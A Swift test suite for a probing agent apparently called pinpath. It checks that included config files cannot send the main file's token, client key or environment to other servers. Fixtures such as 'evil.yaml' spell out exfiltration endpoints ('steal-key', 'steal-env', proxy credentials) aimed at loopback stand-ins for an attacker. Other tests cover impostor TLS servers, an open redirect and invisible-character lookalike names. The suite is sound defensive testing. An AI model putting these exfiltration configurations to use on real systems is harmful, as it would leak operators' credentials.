import Foundation
import PinpathTestSupport
import Testing

/// Issue 25 §4: an included file (`include: conf.d/*.yaml`) is written by someone trusted less than the main
/// file's author, and may add endpoints, never reach what the main file holds. Before, a drop-in file received
/// the main file's default `Authorization` (even over plain http), expanded any `${ENV}` and read any file the
/// agent could (`body_file:` the mTLS key), and sent it all to a URL of its choosing. Each test runs the real
/// binary (`pinpath check-config`, `pinpath run --once`) against recording servers on loopback standing for the
/// attacker: plain http on 127.0.0.1 and https on `localhost` (a leaf of the test PKI, trusted by the main
/// file's policy).
@Suite("Included files reach less than the main file", .serialized)
struct IncludeReachTests {
    static let token = "SECRET-probe-token-5e1f"

    /// A main file as an operator writes it: a default `Authorization` from `${PROBE_TOKEN}` and a `User-Agent`,
    /// the test CA for `localhost`, and its own endpoints (one with a client certificate); `include` is the YAML
    /// of the `include:` key, `files` the included files by name, `moreDefaults` lines added to `defaults:`.
    final class Scene {
        let directory: TemporaryDirectory
        let plain: RecordingServer
        let tls: RecordingServer
        let clientKey = ClientCertificatePKI.shared.path("client", "key")
        let clientCertificate = ClientCertificatePKI.shared.path("client")

        init() throws {
            directory = try TemporaryDirectory()
            plain = try RecordingServer(directory: directory.path)
            let localhost = LocalhostPKI.shared
            tls = try RecordingServer(
                certificate: (localhost.path("valid"), localhost.path("valid", "key"), [TestPKI.shared.path("inter")]),
                directory: directory.path)
            try FileManager.default.createDirectory(atPath: directory.file("conf.d"), withIntermediateDirectories: true)
        }

        deinit {
            plain.stop()
            tls.stop()
        }

        /// `http://127.0.0.1:PORT`, the plain attacker.
        var plainOrigin: String { plain.origin }
        /// `https://localhost:PORT`, the TLS attacker (its certificate valid for localhost under the test CA).
        var tlsOrigin: String { "https://localhost:\(tls.port)" }
        /// `http://localhost:PORT`: the plain server by the name a scope can list.
        var plainLocalhost: String { "http://localhost:\(plain.port)" }

        func write(include: String, files: [String: String], mainEndpoints: String = "", moreDefaults: String = "") throws {
            try """
            events: { output: events.jsonl, probes: all }
            include: \(include)
            policies:
              test-ca: { mode: none, hosts: ["localhost"], ca_file: \(TestPKI.shared.path("store")) }
            defaults:
              interval: 5s
              timeout: 4s
              ip_family: ipv4
              headers: { Authorization: "Bearer ${PROBE_TOKEN}", User-Agent: pinpath-include-test }
            \(moreDefaults)endpoints:
              - name: main-mtls
                url: "\(tlsOrigin)/main-mtls"
                client_certificate: \(clientCertificate)
                client_key: \(clientKey)
            \(mainEndpoints)
            """.write(toFile: directory.file("pinpath.yaml"), atomically: true, encoding: .utf8)
            for (name, text) in files {
                try text.write(toFile: directory.file(name), atomically: true, encoding: .utf8)
            }
        }

        private var environment: [String] { ["/usr/bin/env", "PROBE_TOKEN=\(IncludeReachTests.token)"] }

        func checkConfig(_ options: [String] = []) throws -> Shell.Result {
            try Shell.run(environment + [Shell.pinpath, "check-config", "--config", directory.file("pinpath.yaml")] + options)
        }

        func runOnce() throws -> Shell.Result {
            try Shell.run(environment + [Shell.pinpath, "run", "--once", "--config", directory.file("pinpath.yaml")])
        }

        /// Every request either server received, by path.
        var requests: [String: RecordingServer.Request] {
            Dictionary((plain.requests + tls.requests).map { ($0.path, $0) }, uniquingKeysWith: { first, _ in first })
        }

        /// What the servers received, as one text: every header and body.
        var received: String {
            (plain.requests + tls.requests).map { request in
                request.headers.map { "\($0.name): \($0.value)" }.joined(separator: "\n") + "\n" + request.body
            }.joined(separator: "\n")
        }

        /// A line of the client key's base64: some of its bytes, as a body would carry them.
        var keyBytes: String {
            get throws {
                let lines = try String(contentsOfFile: clientKey, encoding: .utf8).split(separator: "\n")
                return String(lines[lines.count / 2])
            }
        }
    }

    @Test("An included file that names the key file, ${PROBE_TOKEN}, ${HOME} or a client key is refused: nothing is sent")
    func exfiltrationRefused() throws {
        let scene = try Scene()
        try scene.write(
            include: "conf.d/*.yaml",
            files: [
                "conf.d/evil.yaml": """
                endpoints:
                  - name: steal-key
                    url: "\(scene.plainOrigin)/steal-key"
                    method: POST
                    body_file: \(scene.clientKey)
                  - name: steal-env
                    url: "\(scene.tlsOrigin)/steal-env"
                    headers: { X-Token: "${PROBE_TOKEN}", X-Home: "${HOME}" }
                  - name: steal-mtls
                    url: "\(scene.tlsOrigin)/steal-mtls"
                    client_certificate: \(scene.clientCertificate)
                    client_key: \(scene.clientKey)
                  - name: steal-through-proxy
                    url: "\(scene.tlsOrigin)/steal-through-proxy"
                    proxy: "http://user:${PROBE_TOKEN}@127.0.0.1:\(scene.plain.port)"

                """
            ])
        let evil = scene.directory.file("conf.d/evil.yaml")
        let check = try scene.checkConfig()
        #expect(check.status == 78, "\(check.stdout)\(check.stderr)")
        let main = scene.directory.file("pinpath.yaml")
        let localFile =
            "which only \(main) may name: an included file could send the agent's keys or any file it can read to a server of its choosing; move this endpoint to \(main)"
        let environment = """
            ${…} reads the agent's environment, which only \(main) may: an included file could send it anywhere; move this \
            endpoint to \(main) (a header can instead be a default there, scoped to this endpoint's host by include's credentials_for)
            """
        #expect(
            check.stderr.split(separator: "\n").map(String.init) == [
                "pinpath: error: \(evil):5:5: endpoints[0].body_file: body_file reads a local file, \(localFile)",
                "pinpath: error: \(evil):8:25: endpoints[1].headers.X-Token: \(environment)",
                "pinpath: error: \(evil):8:51: endpoints[1].headers.X-Home: \(environment)",
                "pinpath: error: \(evil):11:5: endpoints[2].client_certificate: client_certificate reads a local file, \(localFile)",
                "pinpath: error: \(evil):12:5: endpoints[2].client_key: client_key reads a local file, \(localFile)",
                "pinpath: error: \(evil):15:12: endpoints[3].proxy: \(environment)",
            ])

        let run = try scene.runOnce()
        #expect(run.status == 78, "\(run.stderr)")
        #expect(scene.requests.isEmpty, "the attacker received: \(scene.received)")
        #expect(!scene.received.contains(Self.token))
        #expect(try !scene.received.contains(scene.keyBytes))
        SecretLeakTests.expectNoSecret([("check-config", check.stdout + check.stderr), ("run", run.stdout + run.stderr)])
    }

    @Test("An included endpoint that only inherits gets no Authorization, over http or https; a warning says why")
    func inheritedCredentialWithheld() throws {
        let scene = try Scene()
        try scene.write(
            include: "conf.d/*.yaml",
            files: [
                "conf.d/inherit.yaml": """
                endpoints:
                  - { name: attacker-http, url: "\(scene.plainOrigin)/attacker-http" }
                  - { name: attacker-https, url: "\(scene.tlsOrigin)/attacker-https" }

                """
            ],
            mainEndpoints: """
                  - { name: main-http, url: "\(scene.plainOrigin)/main-http" }
                  - { name: main-https, url: "\(scene.tlsOrigin)/main-https" }
                """)
        let check = try scene.checkConfig()
        #expect(check.status == 0, "\(check.stderr)")
        let main = scene.directory.file("pinpath.yaml")
        let included = scene.directory.file("conf.d/inherit.yaml")
        let plainHTTP = """
            the credential default headers.Authorization from \(main) is not sent to this endpoint: it is plain http, where \
            anyone on the path reads it (use https)
            """
        #expect(
            check.stderr.split(separator: "\n").map(String.init) == [
                "pinpath: warning: \(included):2:5: endpoints[0]: \(plainHTTP)",
                """
                pinpath: warning: \(included):3:5: endpoints[1]: the credential default headers.Authorization from \(main) is \
                not applied to this endpoint of an included file: include's credentials_for does not list "localhost" (list it \
                there for this file's endpoints to have it)
                """,
                "pinpath: warning: \(main):15:5: endpoints[1]: \(plainHTTP)",
            ])
        // --effective shows what each endpoint sends, and what it was refused.
        let effective = try scene.checkConfig(["--effective", "--json"])
        let object = try JSONSerialization.jsonObject(with: Data(effective.stdout.utf8)) as? [String: Any]
        let endpoints = (object?["endpoints"] as? [[String: Any]] ?? []).map {
            ($0["name"] as? String ?? "", $0["effective"] as? [String: Any] ?? [:])
        }
        let sent = Dictionary(
            endpoints.map { ($0.0, ($0.1["headers"] as? [String: String] ?? [:]).keys.sorted()) }, uniquingKeysWith: { a, _ in a })
        let withheld = Dictionary(endpoints.map { ($0.0, $0.1["withheld_defaults"] as? [String] ?? []) }, uniquingKeysWith: { a, _ in a })
        #expect(sent["main-https"] == ["Authorization", "User-Agent"])
        #expect(sent["attacker-https"] == ["User-Agent"] && sent["attacker-http"] == ["User-Agent"] && sent["main-http"] == ["User-Agent"])
        #expect(withheld["attacker-https"] == ["headers.Authorization"] && withheld["main-https"] == [], "\(withheld)")

        let run = try scene.runOnce()
        #expect(run.status == 0, "every endpoint answers 200: \(run.stderr)")
        let requests = scene.requests
        #expect(requests.keys.sorted() == ["/attacker-http", "/attacker-https", "/main-http", "/main-https", "/main-mtls"])
        #expect(requests["/main-https"]?.header("Authorization") == "Bearer \(Self.token)", "the main file's endpoint keeps it")
        for path in ["/attacker-http", "/attacker-https", "/main-http"] {
            #expect(requests[path]?.header("Authorization") == nil, "\(path) received the token")
            #expect(requests[path]?.header("User-Agent") == "pinpath-include-test", "other defaults still apply to \(path)")
        }
    }

    @Test("include: {files:, credentials_for:} sends the defaults to the scoped host over https, never over http")
    func scopedCredential() throws {
        let scene = try Scene()
        try FileManager.default.createDirectory(atPath: scene.directory.file("other.d"), withIntermediateDirectories: true)
        let body = "SECRET-default-body-91c0"
        try body.write(toFile: scene.directory.file("body.txt"), atomically: true, encoding: .utf8)
        try scene.write(
            include: """
                [{ files: conf.d/*.yaml, credentials_for: ["localhost", "*.internal.example"] }, other.d/*.yaml]
                """,
            files: [
                "conf.d/scoped.yaml": """
                endpoints:
                  - { name: scoped-https, url: "\(scene.tlsOrigin)/scoped-https" }
                  - { name: scoped-http, url: "\(scene.plainLocalhost)/scoped-http" }

                """,
                "other.d/unscoped.yaml": """
                endpoints:
                  - { name: unscoped-https, url: "\(scene.tlsOrigin)/unscoped-https" }

                """,
            ],
            moreDefaults: "  method: POST\n  body_file: body.txt\n")
        let check = try scene.checkConfig()
        #expect(check.status == 0, "\(check.stderr)")
        let main = scene.directory.file("pinpath.yaml")
        #expect(
            check.stderr.split(separator: "\n").map(String.init) == [
                """
                pinpath: warning: \(scene.directory.file("other.d/unscoped.yaml")):2:5: endpoints[0]: the credential default \
                headers.Authorization, body_file from \(main) is not applied to this endpoint of an included file: include's \
                credentials_for does not list "localhost" (list it there for this file's endpoints to have it)
                """,
                """
                pinpath: warning: \(scene.directory.file("conf.d/scoped.yaml")):3:5: endpoints[1]: the credential default \
                headers.Authorization, body_file from \(main) is not sent to this endpoint: it is plain http, where anyone on the \
                path reads it (use https)
                """,
            ])

        let run = try scene.runOnce()
        #expect(run.status == 0, "\(run.stderr)")
        let requests = scene.requests
        #expect(requests["/scoped-https"]?.header("Authorization") == "Bearer \(Self.token)")
        #expect(requests["/scoped-https"]?.body == body)
        for path in ["/scoped-http", "/unscoped-https"] {
            #expect(requests[path] != nil, "\(path) was not probed")
            #expect(requests[path]?.header("Authorization") == nil && requests[path]?.body == "", "\(path) received the defaults")
        }
    }

    @Test("include: {…} is checked: a bad host pattern, a missing files key, an unknown key, each at its line")
    func scopeProblems() throws {
        let scene = try Scene()
        try scene.write(include: "[{ credentials_for: [\"a/b\"] }, { files: x/*.yaml, credentials: [a] }]", files: [:])
        let check = try scene.checkConfig()
        #expect(check.status == 78)
        let main = scene.directory.file("pinpath.yaml")
        #expect(
            check.stderr.split(separator: "\n").map(String.init) == [
                "pinpath: error: \(main):2:11: include[0]: files is missing (file patterns such as conf.d/*.yaml)",
                """
                pinpath: error: \(main):2:31: include[0].credentials_for[0]: host pattern "a/b" has "/", which no host name has \
                (write the host alone, such as api.example.com)
                """,
                "pinpath: error: \(main):2:60: include[1].credentials: unknown key \"credentials\"; known keys: files, credentials_for",
            ])
    }

    @Test("include: \"*\" over an env file and a PEM key: check-config names them and shows neither the token nor the key")
    func includeEverything() throws {
        let scene = try Scene()
        try FileManager.default.copyItem(atPath: scene.clientKey, toPath: scene.directory.file("client.key"))
        try scene.write(include: "\"*\"", files: ["probe.env": "PROBE_TOKEN=\(Self.token)\n"])
        let check = try scene.checkConfig()
        let json = try scene.checkConfig(["--json"])
        #expect(check.status == 78 && json.status == 78)
        let keyBytes = try scene.keyBytes
        for (name, output) in [("check-config", check.stdout + check.stderr), ("check-config --json", json.stdout + json.stderr)] {
            #expect(!output.contains(Self.token), "\(name) shows the token: \(output)")
            #expect(!output.contains(keyBytes) && !output.contains("BEGIN"), "\(name) shows the key: \(output)")
        }
        let directory = scene.directory.path
        #expect(
            check.stderr.contains(
                "pinpath: error: \(directory)/probe.env: the included file looks like an environment file (NAME=value lines)"))
        #expect(check.stderr.contains("pinpath: error: \(directory)/client.key: the included file looks like a PEM private key"))
        #expect(check.stderr.contains("pinpath: error: \(directory)/conf.d: the included file is a directory, not a regular file"))
        #expect(!check.stderr.contains("\(directory)/pinpath.yaml"), "the main file is not included again: \(check.stderr)")
    }

    @Test("Values are quoted at most 32 characters long, controls escaped, in every problem")
    func shortQuotes() throws {
        let scene = try Scene()
        let long = "PROBE_TOKEN=\(Self.token)-and-much-more-of-it"
        try scene.write(
            include: "conf.d/*.yaml",
            files: [
                "conf.d/a.yaml": "endpoints:\n  - { name: a, url: \"https://a.example/\", interval: \"\(long)\", method: \"\\e[2K\" }\n"
            ])
        let check = try scene.checkConfig()
        #expect(check.status == 78)
        #expect(!check.stderr.contains(Self.token), "\(check.stderr)")
        #expect(check.stderr.contains(#""PROBE_TOKEN=SECRET-probe-token-5…(23 more characters)" is not a duration"#), "\(check.stderr)")
        #expect(check.stderr.contains(#""\x1b[2K" is not an HTTP method"#), "\(check.stderr)")
    }
}

/// Issue 25, round 2, finding 3: `credentials_for` scopes a credential default to a host, but the included file
/// chooses the policy and the proxy. Naming a policy that does not check the name (`validates_domain_name: false`)
/// or the chain (`allow_invalid_certificates: true`), it let whoever answered for the scoped host (a proxy it names,
/// an attacker on the path) with any certificate a trusted CA issued receive the main file's token.
@Suite("Included files: scoped credentials only to an authenticated server", .serialized)
struct IncludeAuthenticatedScopeTests {
    @Test("An included endpoint under a lax policy, direct or through its proxy, gets no scoped token; a strict one refuses the impostor")
    func laxPolicyWithholdsScopedCredential() throws {
        let directory = try TemporaryDirectory()
        try FileManager.default.createDirectory(atPath: directory.file("conf.d"), withIntermediateDirectories: true)
        // The impostor: a leaf for other.test from the CA the store trusts, answering on the port of `localhost`.
        let pki = TestPKI.shared
        let impostor = try RecordingServer(
            certificate: (pki.path("wronghost"), pki.path("wronghost", "key"), [pki.path("inter")]), directory: directory.path)
        defer { impostor.stop() }
        // A proxy the included file names: it tunnels each CONNECT to the impostor's port.
        let proxy = try ProxyServer(directory: directory.path)
        defer { proxy.stop() }
        let origin = "https://localhost:\(impostor.port)"
        try """
        events: { output: events.jsonl, probes: all }
        policies:
          devices: { mode: none, validates_domain_name: false, ca_file: \(pki.path("store")) }
          lenient:
            mode: public_key
            pins: ["sha256/\(try pki.opensslPin("inter"))", "sha256/\(try pki.opensslPin("root"))"]
            allow_invalid_certificates: true
            ca_file: \(pki.path("store"))
          strict: { mode: none, ca_file: \(pki.path("store")) }
        defaults:
          timeout: 4s
          ip_family: ipv4
          headers: { Authorization: "Bearer ${PROBE_TOKEN}" }
        include: { files: conf.d/*.yaml, credentials_for: [localhost] }
        endpoints: []

        """.write(toFile: directory.file("pinpath.yaml"), atomically: true, encoding: .utf8)
        try """
        endpoints:
          - { name: lax-direct, url: "\(origin)/lax-direct", policy: devices }
          - { name: lax-proxied, url: "\(origin)/lax-proxied", policy: devices, proxy: "\(proxy.url())" }
          - { name: lenient, url: "\(origin)/lenient", policy: lenient }
          - { name: strict-proxied, url: "\(origin)/strict-proxied", policy: strict, proxy: "\(proxy.url())" }

        """.write(toFile: directory.file("conf.d/team.yaml"), atomically: true, encoding: .utf8)
        let environment = ["/usr/bin/env", "PROBE_TOKEN=\(IncludeReachTests.token)"]
        let main = directory.file("pinpath.yaml")
        let team = directory.file("conf.d/team.yaml")

        let check = try Shell.run(environment + [Shell.pinpath, "check-config", "--config", main])
        #expect(check.status == 0, "\(check.stderr)")
        let withheld = "the credential default headers.Authorization from \(main) is not applied to this endpoint of an included file:"
        let anchors = { (policy: String) in
            "its policy \"\(policy)\" brings anchors (ca_file or pinned certificates) that its hosts do not scope to this host"
        }
        let answer = """
            so a server answering for "localhost" is not authenticated by a trusted chain and its name (give this endpoint \
            a policy meant for this host that verifies both, or move it to \(main))
            """
        #expect(
            check.stderr.split(separator: "\n").map(String.init) == [
                """
                pinpath: warning: \(team):2:5: endpoints[0]: \(withheld) its policy "devices" does not check the host name \
                (validates_domain_name: false) and \(anchors("devices")), \(answer)
                """,
                """
                pinpath: warning: \(team):3:5: endpoints[1]: \(withheld) its policy "devices" does not check the host name \
                (validates_domain_name: false) and \(anchors("devices")), \(answer)
                """,
                """
                pinpath: warning: \(team):4:5: endpoints[2]: \(withheld) its policy "lenient" accepts a chain no trusted CA \
                issued (allow_invalid_certificates: true) and \(anchors("lenient")), \(answer)
                """,
                "pinpath: warning: \(team):5:5: endpoints[3]: \(withheld) \(anchors("strict")), \(answer)",
            ], "\(check.stderr)")

        let run = try Shell.run(environment + [Shell.pinpath, "run", "--once", "--config", main])
        let received = impostor.requests
        let paths = Set(received.map(\.path))
        // Each lax endpoint still reaches the impostor (its policy lets it), without the token; the strict one's
        // handshake fails inside the proxy's tunnel: the proxy is no way round an authenticated host.
        #expect(paths == ["/lax-direct", "/lax-proxied"], "\(received.map(\.path)) \(run.stderr)")
        for request in received {
            #expect(request.header("Authorization") == nil, "\(request.path) gave the impostor the token")
        }
        #expect(proxy.requests.filter { $0.method == "CONNECT" }.count == 2, "\(proxy.requests)")
        let events = try String(contentsOfFile: directory.file("events.jsonl"), encoding: .utf8)
        let strict = events.split(separator: "\n").compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
            .first { $0["event"] as? String == "probe.completed" && $0["endpoint"] as? String == "strict-proxied" }
        #expect(strict?["error_category"] as? String == "tls_invalid", "\(events)")
        SecretLeakTests.expectNoSecret([
            ("check-config", check.stdout + check.stderr), ("run", run.stdout + run.stderr), ("events", events),
        ])
    }
}

extension IncludeAuthenticatedScopeTests {
    /// Round 3 (review): an included file named a main-file policy whose own CA the main file trusts for other
    /// hosts (a lab's `ca_file`, `hosts: ["*.lab.test"]`). Whoever that CA issues a certificate for the scoped
    /// host to received the token: the included file chose the proxy, so it was on the path for free. A policy
    /// the included file names that brings anchors of its own counts only if its `hosts` match the host.
    @Test("An included endpoint naming a policy whose CA is trusted for other hosts gets no scoped token, direct or proxied")
    func anchorsForOtherHosts() throws {
        let directory = try TemporaryDirectory()
        try FileManager.default.createDirectory(atPath: directory.file("conf.d"), withIntermediateDirectories: true)
        // The impostor: a certificate for localhost from the CA the lab's policy trusts (here the test CA).
        let localhost = LocalhostPKI.shared
        let impostor = try RecordingServer(
            certificate: (localhost.path("valid"), localhost.path("valid", "key"), [TestPKI.shared.path("inter")]),
            directory: directory.path)
        defer { impostor.stop() }
        let proxy = try ProxyServer(directory: directory.path)
        defer { proxy.stop() }
        let origin = "https://localhost:\(impostor.port)"
        let store = TestPKI.shared.path("store")
        try """
        events: { output: events.jsonl, probes: all }
        policies:
          lab: { mode: none, hosts: ["*.lab.test"], ca_file: \(store) }
          spare: { mode: none, ca_file: \(store) }
          api: { mode: none, hosts: [localhost], ca_file: \(store) }
        defaults:
          timeout: 4s
          ip_family: ipv4
          headers: { Authorization: "Bearer ${PROBE_TOKEN}" }
        include: { files: conf.d/*.yaml, credentials_for: [localhost] }
        endpoints: []

        """.write(toFile: directory.file("pinpath.yaml"), atomically: true, encoding: .utf8)
        try """
        endpoints:
          - { name: lab-proxied, url: "\(origin)/lab-proxied", policy: lab, proxy: "\(proxy.url())" }
          - { name: lab-direct, url: "\(origin)/lab-direct", policy: lab }
          - { name: spare, url: "\(origin)/spare", policy: spare }
          - { name: api, url: "\(origin)/api", policy: api }
          - { name: by-host, url: "\(origin)/by-host" }

        """.write(toFile: directory.file("conf.d/team.yaml"), atomically: true, encoding: .utf8)
        let environment = ["/usr/bin/env", "PROBE_TOKEN=\(IncludeReachTests.token)"]
        let main = directory.file("pinpath.yaml")
        let team = directory.file("conf.d/team.yaml")

        let check = try Shell.run(environment + [Shell.pinpath, "check-config", "--config", main])
        #expect(check.status == 0, "\(check.stderr)")
        let warning = { (line: Int, index: Int, policy: String) in
            """
            pinpath: warning: \(team):\(line):5: endpoints[\(index)]: the credential default headers.Authorization from \(main) is \
            not applied to this endpoint of an included file: its policy "\(policy)" brings anchors (ca_file or pinned \
            certificates) that its hosts do not scope to this host, so a server answering for "localhost" is not authenticated \
            by a trusted chain and its name (give this endpoint a policy meant for this host that verifies both, or move it to \
            \(main))
            """
        }
        #expect(
            check.stderr.split(separator: "\n").map(String.init) == [warning(2, 0, "lab"), warning(3, 1, "lab"), warning(4, 2, "spare")],
            "\(check.stderr)")

        let run = try Shell.run(environment + [Shell.pinpath, "run", "--once", "--config", main])
        #expect(run.status == 0, "\(run.stderr)")
        let received = Dictionary(impostor.requests.map { ($0.path, $0) }) { first, _ in first }
        #expect(Set(received.keys) == ["/lab-proxied", "/lab-direct", "/spare", "/api", "/by-host"], "\(run.stderr)")
        for path in ["/lab-proxied", "/lab-direct", "/spare"] {
            #expect(received[path]?.header("Authorization") == nil, "\(path) gave the server the token")
        }
        // Controls: a policy meant for the host, named or matched by its hosts, authenticates it.
        for path in ["/api", "/by-host"] {
            #expect(received[path]?.header("Authorization") == "Bearer \(IncludeReachTests.token)", "\(path)")
        }
        #expect(proxy.requests.filter { $0.method == "CONNECT" }.count == 1, "\(proxy.requests)")
    }
}

extension IncludeAuthenticatedScopeTests {
    /// Round 4 (review): the same through `defaults: {policy: lab}`: an included endpoint that names no policy
    /// inherits the lab's, and the lab's CA authenticated the scoped host.
    @Test("A default policy whose CA is trusted for other hosts gives no scoped token to an included endpoint")
    func defaultPolicyAnchorsForOtherHosts() throws {
        let directory = try TemporaryDirectory()
        try FileManager.default.createDirectory(atPath: directory.file("conf.d"), withIntermediateDirectories: true)
        let localhost = LocalhostPKI.shared
        let impostor = try RecordingServer(
            certificate: (localhost.path("valid"), localhost.path("valid", "key"), [TestPKI.shared.path("inter")]),
            directory: directory.path)
        defer { impostor.stop() }
        try """
        events: { output: events.jsonl, probes: all }
        policies:
          lab: { mode: none, hosts: ["*.lab.test"], ca_file: \(TestPKI.shared.path("store")) }
        defaults: { timeout: 4s, ip_family: ipv4, policy: lab, headers: { Authorization: "Bearer ${PROBE_TOKEN}" } }
        include: { files: conf.d/*.yaml, credentials_for: [localhost] }
        endpoints:
          - { name: main, url: "https://localhost:\(impostor.port)/main" }

        """.write(toFile: directory.file("pinpath.yaml"), atomically: true, encoding: .utf8)
        try "endpoints:\n  - { name: team, url: \"https://localhost:\(impostor.port)/team\" }\n".write(
            toFile: directory.file("conf.d/team.yaml"), atomically: true, encoding: .utf8)
        let environment = ["/usr/bin/env", "PROBE_TOKEN=\(IncludeReachTests.token)"]
        let main = directory.file("pinpath.yaml")
        let check = try Shell.run(environment + [Shell.pinpath, "check-config", "--config", main])
        #expect(check.status == 0, "\(check.stderr)")
        #expect(check.stderr.contains("its policy \"lab\" brings anchors (ca_file or pinned certificates)"), "\(check.stderr)")
        let run = try Shell.run(environment + [Shell.pinpath, "run", "--once", "--config", main])
        #expect(run.status == 0, "\(run.stderr)")
        let received = Dictionary(impostor.requests.map { ($0.path, $0) }) { first, _ in first }
        #expect(received["/team"] != nil && received["/team"]?.header("Authorization") == nil, "the included endpoint got the token")
        // The main file's own endpoint: the main file chose the policy and the credential for it.
        #expect(received["/main"]?.header("Authorization") == "Bearer \(IncludeReachTests.token)")
    }

    /// Round 3 (review): a scoped `body_file` default went to an included endpoint on the scoped host, whose
    /// open redirect (307) sent it on to a host outside the scope; headers were dropped on that hop, the body
    /// was not. The request core now refuses a hop to another origin that would send the body again.
    @Test("A scoped body_file default does not follow a redirect to another origin: cross_origin_body, the other host gets nothing")
    func bodyStaysWithItsOrigin() throws {
        let directory = try TemporaryDirectory()
        try FileManager.default.createDirectory(atPath: directory.file("conf.d"), withIntermediateDirectories: true)
        let pki = TestPKI.shared
        let localhost = LocalhostPKI.shared
        let api = try RecordingServer(
            certificate: (localhost.path("valid"), localhost.path("valid", "key"), [pki.path("inter")]), directory: directory.path)
        defer { api.stop() }
        let collector = try RecordingServer(
            certificate: (pki.path("ip"), pki.path("ip", "key"), [pki.path("inter")]), directory: directory.path)
        defer { collector.stop() }
        let secret = "{\"client_secret\":\"TOP-SECRET-BODY-7d1e\"}"
        try secret.write(toFile: directory.file("secret.json"), atomically: true, encoding: .utf8)
        try """
        events: { output: events.jsonl, probes: all }
        policies:
          api: { mode: none, hosts: [localhost], ca_file: \(pki.path("store")) }
          collector: { mode: none, hosts: ["127.0.0.1"], ca_file: \(pki.path("store")) }
        defaults: { timeout: 4s, ip_family: ipv4, body_file: secret.json }
        include: { files: conf.d/*.yaml, credentials_for: [localhost] }
        endpoints: []

        """.write(toFile: directory.file("pinpath.yaml"), atomically: true, encoding: .utf8)
        let open307 = "https://localhost:\(api.port)" + api.redirect(307, to: "\(collector.origin)/collect").dropFirst(api.origin.count)
        let open308 = "https://localhost:\(api.port)" + api.redirect(308, to: "\(collector.origin)/collect").dropFirst(api.origin.count)
        try """
        endpoints:
          - { name: put-307, url: "\(open307)", method: PUT, follow_redirects: true }
          - { name: post-308, url: "\(open308)", method: POST, follow_redirects: true }

        """.write(toFile: directory.file("conf.d/team.yaml"), atomically: true, encoding: .utf8)
        let run = try Shell.run([Shell.pinpath, "run", "--once", "--config", directory.file("pinpath.yaml")])
        #expect(run.status == 1, "\(run.stderr)")
        #expect(api.requests.count == 2 && api.requests.allSatisfy { $0.body == secret }, "the scoped host gets the body")
        #expect(collector.requests.isEmpty, "the other origin received \(collector.requests.map { "\($0.method) \($0.path)" })")
        let events = try String(contentsOfFile: directory.file("events.jsonl"), encoding: .utf8)
        let categories = events.split(separator: "\n").compactMap {
            try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any]
        }
        .filter { $0["event"] as? String == "probe.completed" }.compactMap { $0["error_category"] as? String }
        #expect(categories == ["cross_origin_body", "cross_origin_body"], "\(events)")
        #expect(!events.contains("TOP-SECRET"))
    }
}

/// Round 2 (review): invisible scalars that are not controls let an included file name an endpoint that reads as
/// one of the main file's. Through `pinpath check-config` alone, so no metrics reader is needed.
@Suite("Included files cannot name a lookalike endpoint")
struct IncludedLookalikeNameTests {
    /// Invisible scalars that are not controls (zero-width space, byte order mark, soft hyphen, line and
    /// paragraph separators, tag characters) let an included file name an endpoint that reads as one of the main
    /// file's, in every event, alert and dashboard. Refused by their Unicode category (Cf, Zl, Zp), named as U+….
    /// Some are written into the file as they are, some as YAML escapes (`\L`, `\P`, `\u2060`).
    @Test(
        "An included file cannot name an endpoint like the main file's with an invisible character",
        arguments: [
            ("\"api\u{200B}\"", "U+200B, an invisible format character"), ("\"\u{FEFF}api\"", "U+FEFF, an invisible format character"),
            ("\"a\u{AD}pi\"", "U+00AD, an invisible format character"), (#""api\L""#, "U+2028, a line separator"),
            (#""api\P""#, "U+2029, a paragraph separator"), ("\"api\u{E0061}\"", "U+E0061, an invisible format character"),
            (#""api\u2060""#, "U+2060, an invisible format character"),
        ] as [(String, String)])
    func invisibleNames(yaml: String, named: String) throws {
        let directory = try TemporaryDirectory()
        try FileManager.default.createDirectory(atPath: directory.file("conf.d"), withIntermediateDirectories: true)
        try "endpoints:\n  - { name: \(yaml), url: \"https://127.0.0.1:9/\" }\n".write(
            toFile: directory.file("conf.d/team.yaml"), atomically: true, encoding: .utf8)
        try "include: conf.d/*.yaml\nendpoints:\n  - { name: api, url: \"https://127.0.0.1:9/\" }\n".write(
            toFile: directory.file("pinpath.yaml"), atomically: true, encoding: .utf8)
        let result = try Shell.run([Shell.pinpath, "check-config", "--config", directory.file("pinpath.yaml")])
        #expect(result.status == 78, "\(yaml): \(result.stdout)")
        #expect(
            result.stderr == """
                pinpath: error: \(directory.file("conf.d/team.yaml")):2:13: endpoints[0].name: the name holds \(named); a name \
                is one line of visible text

                """, "\(yaml)")
        #expect(result.stderr.unicodeScalars.allSatisfy { $0.isASCII }, "the scalar itself is not printed: \(result.stderr)")
    }
}
